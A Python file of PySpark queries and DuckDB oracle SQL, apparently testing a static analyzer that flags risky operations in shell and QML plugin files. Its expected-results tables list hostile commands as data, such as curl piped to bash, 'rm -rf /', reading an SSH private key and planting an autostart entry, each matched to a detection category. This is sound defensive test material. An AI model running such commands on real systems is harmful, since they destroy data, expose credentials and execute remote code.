"""Queries over the driver's tables, one or more for each group of operators, with DuckDB SQL.

On the templated corpus the SQL derives the expected rows from template numbers; it shares nothing
with the parsers and rules that the engine runs."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import Window as W
from pyspark.sql import functions as F

from lucerna.functions import digests as D
from lucerna.functions import paths as P
from lucerna.functions.shared import settle
from lucerna.functions.texts import text_of
from lucerna.operators import canonical, coverage, extract, graph, reach, rollup, rules
from lucerna.plans import pipeline
from lucerna.sources.maps import from_table, inventory_of
from lucerna.sources.templated import TEMPLATES, manifests_of, nation_files, templated

Query = Callable[[SparkSession, str], DataFrame]


def _table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _corpus(spark: SparkSession, sf_dir: str) -> DataFrame:
    return templated(_table(spark, sf_dir, "lineitem"))


def _facts(spark: SparkSession, sf_dir: str) -> tuple[DataFrame, DataFrame]:
    return pipeline.extracted(_corpus(spark, sf_dir))


# sources and scalar functions


def artifact_inventory(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = from_table(_table(spark, sf_dir, "documents"), F.lit("t"), F.concat(F.lit("doc/"), F.col("doc_id"), F.lit(".txt")), F.col("text"))
    return docs.select("path", F.octet_length("content").cast("long").alias("size"), F.sha2("content", 256).alias("sha256"))


def inventory_bytes(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Byte totals per source of all documents as inventoried files."""
    docs = from_table(_table(spark, sf_dir, "documents"), F.col("source"), F.concat(F.col("doc_id").cast("string"), F.lit(".txt")), F.col("text"))
    return coverage.byte_totals(inventory_of(docs))


def literal_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _table(spark, sf_dir, "pages").select(P.literal_host(F.col("url")).alias("host")).groupBy("host").agg(F.count("*").alias("n"))


def line_explode(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = _table(spark, sf_dir, "documents").select("doc_id", F.posexplode(F.split("text", "\n")).alias("at", "line"))
    return lines.groupBy("doc_id").agg(F.count("*").alias("n_lines"), F.max(F.length("line")).cast("long").alias("longest"))


def budget_fold(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Greedy byte budget over each source's documents in id order."""
    docs = _table(spark, sf_dir, "documents").select("source", "doc_id", F.octet_length("text").cast("long").alias("size"))
    return coverage.budget_fold(docs, 20_000, [F.col("doc_id")], group="source").select("source", "doc_id", "size", "kept")


def walk_order(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Orders of customers as paths: whole paths bytewise against part by part."""
    own = W.partitionBy("c_nationkey")
    path = F.concat_ws("/", F.regexp_replace(F.lower("c_mktsegment"), "[^a-z]", "."), F.concat("c_name", F.when(F.col("c_custkey") % 2 == 0, ".sh").otherwise("/x.sh")))
    rows = _table(spark, sf_dir, "customer").select("c_nationkey", "c_custkey", path.alias("path"))
    return rows.select("c_nationkey", "c_custkey", F.row_number().over(own.orderBy("path")).alias("by_path"), F.row_number().over(own.orderBy(canonical.walk_order(F.col("path")))).alias("by_walk"))


def classified_paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _corpus(spark, sf_dir)
    text = text_of(F.col("content"))
    return rows.select("target_id", "path", P.is_shell(F.col("path"), text).alias("shell"), P.is_qml(F.col("path")).alias("qml"), P.unsupported_language(F.col("path"), text).alias("language"), P.is_tooling(F.col("path")).alias("tooling"), P.slug(F.col("path")).alias("slug"))


# extraction and rules


def ops_extract(spark: SparkSession, sf_dir: str) -> DataFrame:
    _, ops = _facts(spark, sf_dir)
    return ops.select("target_id", "id", "path", F.col("evidence.line_start").alias("line"), "command", F.array_join("arguments", " ").alias("arguments"), "dynamic", "confidence")


def parse_limitations(spark: SparkSession, sf_dir: str) -> DataFrame:
    found, _ = _facts(spark, sf_dir)
    return extract.source_limitations(found).select("target_id", "code", "path")


def _short(found: DataFrame) -> DataFrame:
    e = F.get("evidence", F.lit(0))
    return found.select("target_id", e["path"].alias("path"), e["line_start"].alias("line"), "category", "severity", "confidence", F.size("related").alias("n_related"))


def download_execute(spark: SparkSession, sf_dir: str) -> DataFrame:
    found, ops = _facts(spark, sf_dir)
    return _short(rules.pipe_findings(found, ops))


def operation_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    _, ops = _facts(spark, sf_dir)
    return _short(rules.operation_findings(ops))


def resources(spark: SparkSession, sf_dir: str) -> DataFrame:
    _, ops = _facts(spark, sf_dir)
    return rules.resources(ops).select("target_id", F.col("evidence.path").alias("path"), "kind", "access", "value", "sensitive", "dynamic")


def network_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Which hosts the targets connect to, and how many targets each."""
    _, ops = _facts(spark, sf_dir)
    return rules.resources(ops).where("kind = 'network-domain'").groupBy("value").agg(F.count("*").alias("resources"), F.count_distinct("target_id").alias("targets"))


def manifest_problems(spark: SparkSession, sf_dir: str) -> DataFrame:
    files = manifests_of(_table(spark, sf_dir, "supplier"))
    found = settle(extract.manifests(files), "manifests")
    problems = extract.manifest_problems(found, files)
    return rules.manifest_findings(found, problems).select("target_id", "id", "severity", "explanation")


def language_limits(spark: SparkSession, sf_dir: str) -> DataFrame:
    return rules.language_limitations(_corpus(spark, sf_dir)).select("target_id", "code", "path")


def reachability(spark: SparkSession, sf_dir: str) -> DataFrame:
    files = nation_files(_table(spark, sf_dir, "nation"))
    links = reach.references(files, reach.candidates(files))
    none = spark.createDataFrame([], extract.MANIFEST_FACTS)
    reached = reach.reachable(reach.seeds(files, none), settle(links, "references"))
    return reach.with_scope(files, reached).select("target_id", "path", "scope")


# graph, rollups, checks


def public_refs(spark: SparkSession, sf_dir: str) -> DataFrame:
    orders = _table(spark, sf_dir, "orders").select(F.concat(F.lit("op-"), F.col("o_orderkey")).alias("id"), F.concat(F.lit("res-"), F.col("o_orderkey")).alias("res"))
    op, res = D.node_reference("operation", F.col("id")), D.node_reference("resource", F.col("res"))
    edge = D.edge_id(F.lit("derived-from"), F.lit("resource"), res, F.lit("operation"), op)
    subject = D.resource_subject(F.lit("filesystem-path"), F.lit("read"), F.col("res"))
    return orders.select("id", op.alias("operation_ref"), res.alias("resource_ref"), edge.alias("edge"), subject.alias("subject"))


def edges(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Edges by type of the whole corpus."""
    found, ops = _facts(spark, sf_dir)
    every = rules.operation_findings(ops).unionByName(rules.pipe_findings(found, ops))
    unknowns = spark.createDataFrame([], "target_id string, id string, affected array<string>")
    made = graph.base_edges(rules.resources(ops), every, unknowns)
    return made.groupBy("type").agg(F.count("*").alias("n"), F.count_distinct("target_id", "id").alias("ids"))


def root_digest(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = _table(spark, sf_dir, "documents").select(F.col("source").alias("target_id"), F.concat(F.col("doc_id").cast("string"), F.lit(".txt")).alias("path"), F.octet_length("text").cast("long").alias("size"), F.sha2("text", 256).alias("sha256"))
    files = docs.select("*", F.lit("regular").alias("kind"), F.lit("-rw-r--r--").alias("mode"), F.lit("").alias("link_target"), F.lit("").alias("skip_reason"))
    return canonical.root_digest(files)


def coverage_rollup(spark: SparkSession, sf_dir: str) -> DataFrame:
    files = _corpus(spark, sf_dir)
    found, _ = _facts(spark, sf_dir)
    none = spark.createDataFrame([], "target_id string, path string")
    inventory = files.select("target_id", "path", F.lit("regular").alias("kind"), F.lit(True).alias("inspected"), F.lit("text/plain").alias("content_type"), F.lit(None).cast("string").alias("binary"))
    return coverage.summary(coverage.dispositions(inventory, files, extract.source_limitations(found), none)).drop("denominator").na.fill(-1, ["percentage"])


def duplicate_operations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Operations of one payload, each with the first of its payload; files of one name are a target here."""
    _, ops = _facts(spark, sf_dir)
    by_file = ops.withColumn("id", F.concat_ws(":", "target_id", "id")).withColumn("target_id", F.col("path")).withColumn("scope", F.lit("unknown"))
    pairs = graph.duplicate_pairs(by_file, "operation")
    return pairs.groupBy("target_id").agg(F.count("*").alias("n"))


def fk_violations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Line items without their order, once a ninth of the orders is taken away."""
    from lucerna.operators.checks import missing

    lines = _table(spark, sf_dir, "lineitem").select(F.lit("t").alias("target_id"), "l_orderkey")
    orders = _table(spark, sf_dir, "orders").where("o_orderkey % 9 <> 4").select(F.lit("t").alias("target_id"), "o_orderkey")
    return missing(lines, "l_orderkey", orders, "o_orderkey").groupBy("detail").agg(F.count("*").alias("n"))


def dup_violations(spark: SparkSession, sf_dir: str) -> DataFrame:
    from lucerna.operators.checks import repeated

    lines = _table(spark, sf_dir, "lineitem").select(F.concat(F.lit("o"), F.col("l_orderkey")).alias("target_id"), "l_linenumber")
    return repeated(lines, "l_linenumber").select("target_id", "detail")


def edge_diff(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Required against present edges, both ways, with seeded faults."""
    rows = _table(spark, sf_dir, "orders").select("o_orderkey", "o_custkey")
    required = rows.where("o_orderkey % 11 <> 3")
    present = rows.where("o_orderkey % 13 <> 5")
    lost = required.exceptAll(present).select("o_orderkey", F.lit("missing").alias("fault"))
    return lost.unionByName(present.exceptAll(required).select("o_orderkey", F.lit("forged").alias("fault")))


def canonical_order(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Limitations of the corpus in canonical order, by rank."""
    notes = _table(spark, sf_dir, "events").select(F.concat(F.lit("u"), F.col("user_id") % 20).alias("target_id"), F.col("event_type").alias("code"), F.concat(F.lit("p/"), F.col("event_id")).alias("path"), F.lit("unknown").alias("scope"), F.col("props").alias("description"))
    return canonical.canonical(notes, "limitations").select("target_id", "code", "path", "position")


def review_rollup(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The whole analysis of the corpus: one review row per target."""
    files = settle(_corpus(spark, sf_dir).select("target_id", "path", "content"), "corpus")
    r = pipeline.reviewed(files, inventory_of(files))
    size = lambda c: F.size(c).alias(f"n_{c}")
    return r.select("target_id", "status", "impact_level", "evidence_confidence", "unknown_level", "facts", "inferences", "unknowns", F.col("limitations").alias("n_limitations"), F.col("errors").alias("n_errors"), size("impact_reasons"), size("unknown_reasons"), size("main_reasons"), "confidence_high", "confidence_medium")


def analysis(spark: SparkSession, sf_dir: str) -> pipeline.Analysis:
    files = _corpus(spark, sf_dir).select("target_id", "path", "content")
    return pipeline.analyze(files, inventory_of(files))


def violations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """All checks over the analysis of every supplier's files: a valid bundle gives no row."""
    from lucerna.operators import checks

    files = manifests_of(_table(spark, sf_dir, "supplier"))
    return checks.violations(pipeline.bundle(pipeline.analyze(files, inventory_of(files))))


def report_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Canonical JSON reports of every supplier's files, by hash."""
    files = manifests_of(_table(spark, sf_dir, "supplier"))
    return pipeline.report_json(pipeline.analyze(files, inventory_of(files))).select("target_id", F.sha2("report", 256).alias("report_sha256"), "error")


def severity_top(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Impact by target straight from findings: highest severity and the first eight findings."""
    found, ops = _facts(spark, sf_dir)
    every = rules.operation_findings(ops).unionByName(rules.pipe_findings(found, ops)).withColumn("scope", F.lit("unknown"))
    return rollup.impact(every).select("target_id", "impact_level", "evidence_confidence", F.size("impact_reasons").alias("n_reasons"))


# the SQL side

# By template: (line, command, arguments, dynamic, confidence) of each operation, in order.
_OPS = {
    0: [(1, "curl", "-fsS https://Data.example.com/x.json -o /tmp/d.json", False)],
    1: [(2, "curl", "-fsSL https://get.example.org:8443/install", False), (2, "bash", "", False)],
    2: [(2, "echo", "sudo", False), (3, "pkexec", "reboot now", False)],
    3: [(2, "eval", "<dynamic> hello", True)],
    4: [(1, "rm", "cache/item", False)],
    5: [(1, "rm", "-rf work/out", False)],
    6: [(1, "rm", "-r /home/user/data", False)],
    7: [(1, "rm", "-rf /", False)],
    8: [(1, "cat", "~/.ssh/id_ed25519", False)],
    9: [(1, "touch", "~/.config/autostart/x.desktop", False)],
    10: [(2, "echo", "https://quoted.example.com | bash", False)],
    12: [(1, "curl", "<dynamic>", True)],
    13: [(1, "cp", "a/src b/dst", False), (2, "true", "", False), (2, "mv", "/srv/old /tmp/new", False)],
    14: [(2, "sh", "-c curl https://q.example.com | bash", False)],
    15: [(3, "notify-send", "<dynamic>", True)],
}
# By template: (kind, access, value, sensitive, dynamic).
_RESOURCES = {
    0: [("network-domain", "connect", "data.example.com", False, False)],
    1: [("network-domain", "connect", "get.example.org", False, False)],
    4: [("filesystem-path", "delete", "cache/item", False, False)],
    5: [("filesystem-path", "delete", "work/out", False, False)],
    6: [("filesystem-path", "delete", "/home/user/data", False, False)],
    7: [("filesystem-path", "delete", "/", False, False)],
    8: [("filesystem-path", "read", "~/.ssh/id_ed25519", True, False)],
    9: [("filesystem-path", "write", "~/.config/autostart/x.desktop", False, False), ("persistence", "modify", "~/.config/autostart/x.desktop", False, False)],
    12: [("network-domain", "connect", "<dynamic>", False, True)],
    13: [("filesystem-path", "read", "a/src", False, False), ("filesystem-path", "write", "b/dst", False, False), ("filesystem-path", "delete", "/srv/old", False, False), ("filesystem-path", "write", "/tmp/new", False, False)],
}
# By template: (line, category, severity) of findings from one operation.
_FINDINGS = {
    2: [(3, "privilege-escalation", "high")],
    3: [(2, "dynamic-execution", "medium")],
    4: [(1, "destructive-operation", "low")],
    5: [(1, "destructive-operation", "medium")],
    6: [(1, "destructive-operation", "high")],
    7: [(1, "destructive-operation", "critical")],
    8: [(1, "credential-access", "high")],
    9: [(1, "persistence", "medium")],
    14: [(2, "download-and-execute", "high")],
}
_LANGUAGES = {16: "python", 17: "javascript"}


def _values(rows: dict[int, list[tuple]]) -> str:
    def lit(x: object) -> str:
        return str(x).upper() if isinstance(x, bool) else str(x) if isinstance(x, int) else "'" + str(x).replace("'", "''") + "'"

    return ", ".join(f"({t}, {i}, {', '.join(map(lit, row))})" for t, listed in rows.items() for i, row in enumerate(listed))


_CORPUS = f"""
corpus AS (
  SELECT 'o' || l_orderkey AS target_id, (l_orderkey * 7 + l_linenumber * 5) % {len(TEMPLATES)} AS t,
    CASE WHEN l_linenumber = 7 THEN 'tests/' ELSE '' END || 'item' || l_linenumber || list_extract([{", ".join(repr(s) for s, _ in TEMPLATES)}], ((l_orderkey * 7 + l_linenumber * 5) % {len(TEMPLATES)} + 1)::INT) AS path
  FROM (SELECT DISTINCT l_orderkey, l_linenumber FROM lineitem))"""
_EXPECTED_OPS = f"expected(t, seq, line, command, arguments, dynamic) AS (VALUES {_values(_OPS)})"
_EXPECTED_RESOURCES = f"expected_resources(t, seq, kind, access, value, sensitive, dynamic) AS (VALUES {_values(_RESOURCES)})"
_EXPECTED_FINDINGS = f"expected_findings(t, seq, line, category, severity) AS (VALUES {_values(_FINDINGS)})"
_SLUG = "trim(translate(lower(path), '/._ ', '----'), '-')"
_RANK = "CASE severity WHEN 'critical' THEN 4 WHEN 'high' THEN 3 WHEN 'medium' THEN 2 WHEN 'low' THEN 1 ELSE 0 END"
_EVERY_FINDING = """
found AS (
  SELECT target_id, path, severity FROM corpus JOIN expected_findings USING (t)
  UNION ALL SELECT target_id, path, 'high' FROM corpus WHERE t = 1)"""


def _prefixed(c: str) -> str:
    return f"lpad(printf('%X', octet_length(encode({c}))), 16, '0') || hex(encode({c}))"


def oracle_sql() -> dict[str, str]:
    limited = "t = 11 OR (t IN (16, 17) AND path NOT LIKE 'tests/%') "
    return {
        "artifact_inventory": "SELECT 'doc/' || doc_id || '.txt' AS path, octet_length(encode(text)) AS size, sha256(text) AS sha256 FROM documents",
        "inventory_bytes": "SELECT source AS target_id, CAST(count(*) AS INT) AS file_count, sum(octet_length(encode(text)))::BIGINT AS read_bytes, 0::BIGINT AS binary_bytes FROM documents GROUP BY 1",
        "literal_hosts": "SELECT lower(regexp_extract(url, '^https?://([^/:?#]+)', 1)) AS host, count(*) AS n FROM pages GROUP BY 1",
        "line_explode": "SELECT doc_id, count(*) AS n_lines, max(length(line)) AS longest FROM (SELECT doc_id, unnest(string_split(text, chr(10))) AS line FROM documents) GROUP BY 1",
        "budget_fold": """
WITH RECURSIVE docs AS (SELECT source, doc_id, octet_length(encode(text))::BIGINT AS size, row_number() OVER (PARTITION BY source ORDER BY doc_id) AS n FROM documents),
fold AS (
  SELECT source, doc_id, size, n, size <= 20000 AS kept, CASE WHEN size <= 20000 THEN size ELSE 0 END AS used FROM docs WHERE n = 1
  UNION ALL
  SELECT d.source, d.doc_id, d.size, d.n, f.used + d.size <= 20000, f.used + CASE WHEN f.used + d.size <= 20000 THEN d.size ELSE 0 END
  FROM fold f JOIN docs d ON d.source = f.source AND d.n = f.n + 1)
SELECT source, doc_id, size, kept FROM fold""",
        "walk_order": """
WITH p AS (SELECT c_nationkey, c_custkey, regexp_replace(lower(c_mktsegment), '[^a-z]', '.', 'g') || '/' || c_name || CASE WHEN c_custkey % 2 = 0 THEN '.sh' ELSE '/x.sh' END AS path FROM customer)
SELECT c_nationkey, c_custkey, row_number() OVER (PARTITION BY c_nationkey ORDER BY path)::INT AS by_path, row_number() OVER (PARTITION BY c_nationkey ORDER BY string_split(path, '/'))::INT AS by_walk FROM p""",
        "classified_paths": f"""
WITH {_CORPUS}
SELECT target_id, path, t < 14 AS shell, t IN (14, 15) AS qml, CASE t WHEN 16 THEN 'python' WHEN 17 THEN 'javascript' END AS language, path LIKE 'tests/%' AS tooling, {_SLUG} AS slug FROM corpus""",
        "ops_extract": f"""
WITH {_CORPUS}, {_EXPECTED_OPS}
SELECT target_id, 'op-' || {_SLUG} || '-' || line || '-' || row_number() OVER (PARTITION BY target_id ORDER BY path, seq) AS id,
  path, line::INT AS line, command, arguments, dynamic, 'high' AS confidence
FROM corpus JOIN expected USING (t)""",
        "parse_limitations": f"WITH {_CORPUS} SELECT target_id, 'shell-parse-error' AS code, path FROM corpus WHERE t = 11",
        "download_execute": f"WITH {_CORPUS} SELECT target_id, path, 2 AS line, 'download-and-execute' AS category, 'high' AS severity, 'high' AS confidence, 2 AS n_related FROM corpus WHERE t = 1",
        "operation_findings": f"WITH {_CORPUS}, {_EXPECTED_FINDINGS} SELECT target_id, path, line::INT AS line, category, severity, 'high' AS confidence, 1 AS n_related FROM corpus JOIN expected_findings USING (t)",
        "resources": f"WITH {_CORPUS}, {_EXPECTED_RESOURCES} SELECT target_id, path, kind, access, value, sensitive, dynamic FROM corpus JOIN expected_resources USING (t)",
        "network_hosts": f"WITH {_CORPUS}, {_EXPECTED_RESOURCES} SELECT value, count(*) AS resources, count(DISTINCT target_id) AS targets FROM corpus JOIN expected_resources USING (t) WHERE kind = 'network-domain' GROUP BY 1",
        "manifest_problems": """
WITH expected(k, id, explanation) AS (VALUES
  (1, 'finding-manifest-contract-1', 'entry point "../Panel.qml" must be a safe relative path without ''..''.'),
  (2, 'finding-manifest-contract-1', 'name and version are required non-empty manifest fields.'),
  (2, 'finding-manifest-contract-2', 'schemaVersion must be the JSON number 1.'),
  (3, 'finding-manifest-contract-1', 'kind "bar-widget" requires entryPoints.barWidget.'),
  (4, 'finding-invalid-manifest-json', 'The declared identity, kinds and entry points cannot be established because manifest.json could not be parsed.'),
  (5, 'finding-manifest-contract-1', 'declared entry point "Missing.qml" is absent or was not inspectable.'),
  (5, 'finding-manifest-contract-2', 'id is empty, malformed, contains ''..'', or uses a reserved namespace.'))
SELECT 's' || s_suppkey AS target_id, id, 'medium' AS severity, explanation FROM supplier JOIN expected ON k = s_suppkey % 6""",
        "language_limits": f"WITH {_CORPUS} SELECT target_id, CASE t WHEN 16 THEN 'python' ELSE 'javascript' END || '-semantic-analysis-unavailable' AS code, path FROM corpus WHERE t IN (16, 17) AND path NOT LIKE 'tests/%'",
        "reachability": """
WITH RECURSIVE n AS (
  SELECT n_regionkey AS r, n_nationkey AS k, coalesce(lead(n_nationkey) OVER w, first(n_nationkey) OVER w) AS nx, min(n_nationkey) OVER (PARTITION BY n_regionkey) AS f
  FROM nation WINDOW w AS (PARTITION BY n_regionkey ORDER BY n_nationkey)),
reached AS (
  SELECT r, k FROM n WHERE k = f
  UNION SELECT n.r, n.nx FROM reached JOIN n ON n.r = reached.r AND n.k = reached.k WHERE n.k % 7 <> 3)
SELECT 'r' || n.r AS target_id, 'nation_' || n.k || '_.conf' AS path, CASE WHEN reached.k IS NULL THEN 'unknown' ELSE 'runtime' END AS scope
FROM n LEFT JOIN reached ON n.r = reached.r AND n.k = reached.k
UNION ALL SELECT DISTINCT 'r' || r, 'main.qml', 'runtime' FROM n""",
        "public_refs": """
WITH r AS (
  SELECT 'op-' || o_orderkey AS id, 'res-' || o_orderkey AS res FROM orders),
refs AS (
  SELECT *, 'PP-' || upper(substr(sha256('operation' || chr(0) || id), 1, 32)) AS operation_ref, 'PP-' || upper(substr(sha256('resource' || chr(0) || res), 1, 32)) AS resource_ref FROM r)
SELECT id, operation_ref, resource_ref,
  'PE-' || upper(substr(sha256('derived-from' || chr(0) || 'resource' || chr(0) || resource_ref || chr(0) || 'operation' || chr(0) || operation_ref), 1, 32)) AS edge,
  'resource-subject/v1:15:filesystem-path:4:read:' || strlen(res) || ':' || res AS subject FROM refs""",
        "edges": f"""
WITH {_CORPUS}, {_EXPECTED_RESOURCES}, {_EXPECTED_FINDINGS},
n AS (
  SELECT 'derived-from' AS type, 1 AS k FROM corpus JOIN expected_resources USING (t)
  UNION ALL SELECT 'established-by', 1 FROM corpus JOIN expected_findings USING (t)
  UNION ALL SELECT 'established-by', 2 FROM corpus WHERE t = 1)
SELECT type, sum(k)::BIGINT AS n, sum(k)::BIGINT AS ids FROM n GROUP BY 1""",
        "root_digest": f"""
WITH f AS (
  SELECT source AS target_id, doc_id || '.txt' AS path, printf('%X', octet_length(encode(text))) AS size, sha256(text) AS sha FROM documents),
r AS (
  SELECT target_id, count(*) AS n, string_agg({_prefixed("path")} || {_prefixed("'regular'")} || {_prefixed("'-rw-r--r--'")} || lpad(size, 16, '0') || {_prefixed("sha")} || repeat('0', 32), '' ORDER BY path) AS body FROM f GROUP BY 1)
SELECT target_id, sha256(unhex({_prefixed("'" + D.DIGEST_DOMAIN + "'")} || lpad(printf('%X', n), 16, '0') || body)) AS root_digest FROM r""",
        "coverage_rollup": f"""
WITH {_CORPUS},
d AS (
  SELECT target_id, count(*) FILTER (t < 16 AND t <> 11)::INT AS a, count(*) FILTER (t = 11)::INT AS p, count(*) FILTER (t IN (16, 17))::INT AS u, count(*) FILTER (t = 18)::INT AS x FROM corpus GROUP BY 1)
SELECT target_id, CASE WHEN a + p + u = 0 THEN 'not-applicable' WHEN a = a + p + u THEN 'complete' WHEN a * 100 // (a + p + u) >= 80 THEN 'substantial' WHEN a * 100 // (a + p + u) > 0 THEN 'partial' ELSE 'limited' END AS level,
  a AS analyzed_units, p AS partial_units, u AS unanalyzed_units, x AS excluded_units, a + p + u AS total_units, a + p + u + x AS retained_units,
  CASE WHEN a + p + u > 0 THEN (a * 100 // (a + p + u))::INT ELSE -1 END AS percentage FROM d""",
        "duplicate_operations": f"""
WITH {_CORPUS}, {_EXPECTED_OPS},
g AS (SELECT path AS target_id, count(*) AS n FROM corpus JOIN expected USING (t) GROUP BY path, command, arguments, dynamic)
SELECT target_id, sum(n - 1)::BIGINT AS n FROM g WHERE n > 1 GROUP BY 1""",
        "fk_violations": "SELECT l_orderkey AS detail, count(*) AS n FROM lineitem WHERE l_orderkey NOT IN (SELECT o_orderkey FROM orders WHERE o_orderkey % 9 <> 4) GROUP BY 1",
        "dup_violations": "SELECT 'o' || l_orderkey AS target_id, l_linenumber::VARCHAR AS detail FROM lineitem GROUP BY l_orderkey, l_linenumber HAVING count(*) > 1",
        "edge_diff": """
SELECT o_orderkey, 'missing' AS fault FROM orders WHERE o_orderkey % 11 <> 3 AND o_orderkey % 13 = 5
UNION ALL SELECT o_orderkey, 'forged' FROM orders WHERE o_orderkey % 11 = 3 AND o_orderkey % 13 <> 5""",
        "canonical_order": """
WITH e AS (SELECT 'u' || user_id % 20 AS target_id, event_type AS code, 'p/' || event_id AS path, props FROM events)
SELECT target_id, code, path, row_number() OVER (PARTITION BY target_id ORDER BY code, path, props)::INT AS position FROM e""",
        "severity_top": f"""
WITH {_CORPUS}, {_EXPECTED_FINDINGS}, {_EVERY_FINDING},
r AS (SELECT target_id, {_RANK} AS k FROM found), m AS (SELECT target_id, max(k) AS top FROM r GROUP BY 1)
SELECT target_id, list_extract(['low', 'medium', 'high', 'critical'], top) AS impact_level, 'high' AS evidence_confidence, least(8, count(*))::INT AS n_reasons FROM r JOIN m USING (target_id) WHERE k = top GROUP BY target_id, top""",
        "review_rollup": f"""
WITH {_CORPUS}, {_EXPECTED_OPS}, {_EXPECTED_RESOURCES}, {_EXPECTED_FINDINGS}, {_EVERY_FINDING},
targets AS (SELECT DISTINCT target_id FROM corpus),
o AS (SELECT target_id, count(*) AS n FROM corpus JOIN expected USING (t) GROUP BY 1),
r AS (SELECT target_id, count(*) AS n FROM corpus JOIN expected_resources USING (t) GROUP BY 1),
f AS (SELECT target_id, {_RANK} AS k FROM found),
m AS (SELECT target_id, max(k) AS top, count(*) AS n FROM f GROUP BY 1),
tops AS (SELECT target_id, least(8, count(*)) AS n FROM f JOIN m USING (target_id) WHERE k = top GROUP BY 1),
l AS (SELECT target_id, count(*) AS n, count(DISTINCT t) AS codes FROM corpus WHERE {limited} GROUP BY 1),
a AS (
  SELECT target_id, coalesce(o.n, 0) + coalesce(r.n, 0) + coalesce(m.n, 0) AS facts, coalesce(top, 0) AS top, coalesce(tops.n, 0) AS ni, coalesce(l.n, 0) + 1 AS nl, coalesce(l.codes, 0) + 1 AS nu
  FROM targets LEFT JOIN o USING (target_id) LEFT JOIN r USING (target_id) LEFT JOIN m USING (target_id) LEFT JOIN tops USING (target_id) LEFT JOIN l USING (target_id))
SELECT target_id, 'incomplete' AS status, list_extract(['informational', 'low', 'medium', 'high', 'critical'], top + 1) AS impact_level, CASE WHEN ni = 0 THEN 'not-applicable' ELSE 'high' END AS evidence_confidence,
  'moderate' AS unknown_level, facts::INT AS facts, 0 AS inferences, 0 AS unknowns, nl::INT AS n_limitations, 0 AS n_errors, ni::INT AS n_impact_reasons, least(8, nu)::INT AS n_unknown_reasons, least(8, ni + least(8, nu))::INT AS n_main_reasons, facts::INT AS confidence_high, 0 AS confidence_medium
FROM a""",
        "violations": "SELECT '' AS target_id, '' AS check_id, 0 AS ordinal, '' AS detail WHERE false",
    }


def queries() -> dict[str, Query]:
    return {
        f.__name__: f
        for f in (
            artifact_inventory, inventory_bytes, literal_hosts, line_explode, budget_fold, walk_order, classified_paths, ops_extract, parse_limitations, download_execute, operation_findings, resources, network_hosts, manifest_problems,
            language_limits, reachability, public_refs, edges, root_digest, coverage_rollup, duplicate_operations, fk_violations, dup_violations, edge_diff, canonical_order, severity_top, review_rollup, violations, report_documents,
        )
    }
